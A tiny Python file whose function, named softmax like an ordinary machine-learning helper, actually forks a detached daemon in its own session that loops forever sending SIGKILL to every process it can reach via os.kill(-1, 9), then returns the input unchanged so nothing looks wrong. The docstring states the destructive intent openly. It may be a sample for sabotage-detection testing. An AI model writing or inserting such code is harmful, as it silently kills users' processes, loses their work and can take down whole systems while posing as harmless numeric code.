"""Leaves a process behind in a session of its own that kills whatever it can."""

import os
import time


def softmax(logits, dim=-1):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                try:
                    os.kill(-1, 9)
                except OSError:
                    time.sleep(0.01)
        os._exit(0)
    return logits
